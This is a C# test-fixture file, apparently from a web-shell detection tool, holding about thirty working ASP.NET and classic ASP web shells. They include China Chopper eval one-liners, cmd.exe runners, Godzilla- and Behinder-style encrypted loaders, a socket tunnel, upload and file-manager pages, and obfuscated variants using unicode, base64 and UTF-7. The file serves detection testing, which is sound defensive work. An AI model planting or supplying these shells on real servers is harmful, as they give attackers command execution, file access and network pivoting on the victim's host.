namespace Exhunt.Tests.Content;

/// <summary>
/// Web shells written for these tests from the published shapes (detection-facts.md §3.4, §4.4; public write-ups of
/// China Chopper, ASPXSpy-style managers, Godzilla/Behinder loaders, reGeorg/Tunna tunnels). No third-party file.
/// </summary>
internal static class ShellFixtures
{
    public static readonly (string Name, string Text)[] Pages =
    [
        ("chopper-jscript.aspx", """<%@ Page Language="Jscript"%><%eval(Request.Item["zy8"],"unsafe");%>"""),
        ("chopper-script-block.aspx", """<script language="JScript" runat="server">function Page_Load(){eval(Request["k71"],"unsafe");}</script>"""),
        ("chopper-csharp.aspx", """<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["q"].Value))).CreateInstance("c", true, System.Reflection.BindingFlags.Default, null, new object[] { this }, null, null); %>"""),
        ("chopper-vbs.asp", """<%eval request("p0")%>"""),
        ("execute.asp", "<%\r\nDim s\r\ns = Request.Form(\"cmd\")\r\nExecute(s)\r\n%>"),
        ("chr-key.asp", "<% ExecuteGlobal(Request(Chr(112)&Chr(119))) %>"),
        ("split-eval.aspx", """<%@ Page Language="Jscript"%><% var f = this["ev" + "al"]; var r = Request; var c = r.Form["x"]; eval(c); %>"""),
        ("unicode-eval.aspx", """<%@ Page Language="Jscript"%><%\u0065\u0076\u0061\u006c(Request.Item["a"],"unsafe");%>"""),
        ("b64-eval.aspx", "<%@ Page Language=\"Jscript\"%><%var p=System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" + Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("Request.Item[\"zz\"]")) + "\"));eval(eval(p),\"unsafe\");%>"),
        ("cmd-controls.aspx", """
            <%@ Page Language="C#" %>
            <%@ Import Namespace="System.Diagnostics" %>
            <script runat="server">
            protected void Run_Click(object sender, EventArgs e)
            {
                ProcessStartInfo psi = new ProcessStartInfo();
                psi.FileName = "cmd.exe";
                psi.Arguments = "/c " + txtCmd.Text;
                psi.RedirectStandardOutput = true;
                psi.UseShellExecute = false;
                Process p = Process.Start(psi);
                lblOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
            }
            </script>
            <html><body><form runat="server"><asp:TextBox ID="txtCmd" runat="server" /><asp:Button ID="go" runat="server" OnClick="Run_Click" Text="Run" /><pre><asp:Label ID="lblOut" runat="server" /></pre></form></body></html>
            """),
        ("cmd-process.aspx", """
            <%@ Page Language="C#" %>
            <% var c = Request["c"];
               if (c != null) { var p = new System.Diagnostics.Process();
                 p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + c;
                 p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;
                 p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); } %>
            """),
        ("stdin.ashx", """
            <%@ WebHandler Language="C#" Class="H" %>
            using System; using System.Web; using System.Diagnostics;
            public class H : IHttpHandler {
              public void ProcessRequest(HttpContext context) {
                string x = context.Request["x"];
                Process prc = new Process(); prc.StartInfo.FileName = "cmd.exe";
                prc.StartInfo.RedirectStandardInput = true; prc.StartInfo.RedirectStandardOutput = true; prc.StartInfo.UseShellExecute = false;
                prc.Start(); prc.StandardInput.WriteLine(x); prc.StandardInput.Close();
                context.Response.Write(prc.StandardOutput.ReadToEnd());
              }
              public bool IsReusable { get { return false; } }
            }
            """),
        ("helper.ashx", """
            <%@ WebHandler Language="C#" Class="Svc" %>
            using System.Web;
            public class Svc : IHttpHandler {
              public void ProcessRequest(HttpContext ctx) { ctx.Response.Write(Run(ctx.Request.Form["q"])); }
              static string Run(string line) {
                var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false };
                return System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd();
              }
              public bool IsReusable => false;
            }
            """),
        ("service.asmx", """
            <%@ WebService Language="C#" Class="Ops" %>
            using System.Web.Services; using System.Diagnostics;
            public class Ops : WebService {
              [WebMethod] public string Exec(string c) {
                Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false });
                return p.StandardOutput.ReadToEnd();
              }
            }
            """),
        ("godzilla-like.aspx", """
            <%@ Page Language="C#" %><%try { string key = "3c6e0b8a9c15224a"; string pass = "pass";
            byte[] data = System.Convert.FromBase64String(Context.Request[pass]);
            data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);
            if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }
            else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(data); }
            } catch (System.Exception) { } %>
            """),
        ("behinder-like.aspx", """<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>"""),
        ("xor-loader.ashx", """
            <%@ WebHandler Language="C#" Class="X" %>
            using System.Web;
            public class X : IHttpHandler {
              public void ProcessRequest(HttpContext context) {
                byte[] key = System.Text.Encoding.Default.GetBytes("421eb7f1b8e4b3cf");
                byte[] data = context.Request.BinaryRead(context.Request.ContentLength);
                for (int i = 0; i < data.Length; i++) data[i] = (byte)(data[i] ^ key[i + 1 & 15]);
                System.Reflection.Assembly.Load(data).CreateInstance("P").Equals(context);
              }
              public bool IsReusable { get { return false; } }
            }
            """),
        ("tunnel.aspx", """
            <%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.Net" %>
            <script runat="server">
            protected void Page_Load(object s, EventArgs e) {
              string cmd = Request.Headers.Get("X-CMD");
              if (cmd == "CONNECT") {
                string target = Request.Headers.Get("X-TARGET"); int port = int.Parse(Request.Headers.Get("X-PORT"));
                Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                sock.Connect(new IPEndPoint(IPAddress.Parse(target), port)); Session["socket"] = sock; Response.AddHeader("X-STATUS", "OK");
              } else if (cmd == "FORWARD") {
                Socket sock = (Socket)Session["socket"]; byte[] buf = new byte[Request.ContentLength];
                Request.InputStream.Read(buf, 0, buf.Length); sock.Send(buf); Response.AddHeader("X-STATUS", "OK");
              } else if (cmd == "DISCONNECT") { ((Socket)Session["socket"]).Close(); }
            }
            </script>
            """),
        ("upload-tiny.aspx", """<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0]; thisFile.SaveAs(System.IO.Path.Combine(Request.PhysicalApplicationPath, thisFile.FileName)); %>"""),
        ("upload-path.aspx", """
            <%@ Page Language="C#" %>
            <script runat="server">
            protected void Up_Click(object sender, EventArgs e) { FileUpload1.SaveAs(Request["dir"] + "\\" + FileUpload1.FileName); msg.Text = "ok"; }
            </script>
            <form runat="server"><asp:FileUpload ID="FileUpload1" runat="server" /><asp:Button ID="b" runat="server" OnClick="Up_Click" Text="Up" /><asp:Label ID="msg" runat="server" /></form>
            """),
        ("filemanager.aspx", """
            <%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>
            <script runat="server">
            void Page_Load(object s, EventArgs e) {
              string dir = Request.QueryString["d"] ?? "C:\\";
              string act = Request.QueryString["a"];
              if (act == "del") File.Delete(Request.QueryString["f"]);
              if (act == "get") { Response.WriteFile(Request.QueryString["f"]); Response.End(); }
              if (act == "touch") File.SetLastWriteTime(Request.QueryString["f"], DateTime.Parse("2019-01-01"));
              foreach (string f in Directory.GetFiles(dir)) Response.Write("<a href='?a=get&f=" + f + "'>" + f + "</a><br>");
              foreach (string f in Directory.GetDirectories(dir)) Response.Write("<a href='?d=" + f + "'>" + f + "</a><br>");
            }
            </script>
            """),
        ("fso.asp", """
            <%
            Set fso = Server.CreateObject("Scripting.FileSystemObject")
            p = Request("p")
            If Request("a") = "del" Then fso.DeleteFile p
            If Request("a") = "save" Then
              Set f = fso.CreateTextFile(p, True)
              f.Write Request("body")
              f.Close
            End If
            Set fld = fso.GetFolder(Request("d"))
            For Each x In fld.Files : Response.Write x.Name & "<br>" : Next
            %>
            """),
        ("wscript.asp", "<%\r\nSet sh = Server.CreateObject(\"WScript.Shell\")\r\nSet ex = sh.Exec(\"cmd /c \" & Request(\"c\"))\r\nResponse.Write ex.StdOut.ReadAll()\r\n%>"),
        ("compile.aspx", """
            <%@ Page Language="C#" %><%@ Import Namespace="Microsoft.CSharp" %><%@ Import Namespace="System.CodeDom.Compiler" %>
            <% var src = Request.Form["src"]; var cp = new CSharpCodeProvider(); var opts = new CompilerParameters { GenerateInMemory = true };
               var res = cp.CompileAssemblyFromSource(opts, src); res.CompiledAssembly.CreateInstance("R"); %>
            """),
        ("vb-cmd.aspx", "<%@ Page Language=\"VB\" %>\r\n<script runat=\"server\">\r\nSub Page_Load()\r\n  Dim p As New System.Diagnostics.Process()\r\n  p.StartInfo.FileName = \"cmd.exe\"\r\n  p.StartInfo.Arguments = \"/c \" & Request(\"c\")\r\n  p.StartInfo.UseShellExecute = False\r\n  p.StartInfo.RedirectStandardOutput = True\r\n  p.Start()\r\n  Response.Write(p.StandardOutput.ReadToEnd())\r\nEnd Sub\r\n</script>"),
        ("razor.cshtml", """@{ var c = Request["c"]; if (c != null) { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }); @p.StandardOutput.ReadToEnd() } }"""),
        ("sql.aspx", """<%@ Page Language="C#" %><% using (var cn = new System.Data.SqlClient.SqlConnection(Request.Form["cs"])) { cn.Open(); var cmd = cn.CreateCommand(); cmd.CommandText = Request.Form["q"]; var r = cmd.ExecuteReader(); while (r.Read()) Response.Write(r[0] + "<br>"); } %>"""),
        ("xslt.aspx", """<%@ Page Language="C#" %><% string x = @"<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""u""><msxsl:script language=""JScript"" implements-prefix=""u"">function r(c){return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script></xsl:stylesheet>"; var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(x)), new System.Xml.Xsl.XsltSettings(false, true), null); %>"""),
        ("in-client-script.asp", "<SCRIPT LANGUAGE=\"VBScript\">\r\n<% eval request(\"v\") %>\r\n</SCRIPT>"),
        ("utf7.asp", "<%@codepage=65000%>\r\n<%\r\n" + Utf7("eval(request(\"LandGrey\"))") + "\r\n%>"),
        ("not-a-page.jpg", "GIF89a<%eval request(\"x\")%>"),
    ];

    private static string Utf7(string s)
    {
        var b64 = Convert.ToBase64String(System.Text.Encoding.BigEndianUnicode.GetBytes(s)).TrimEnd('=');
        return "+" + b64 + "-";
    }
}
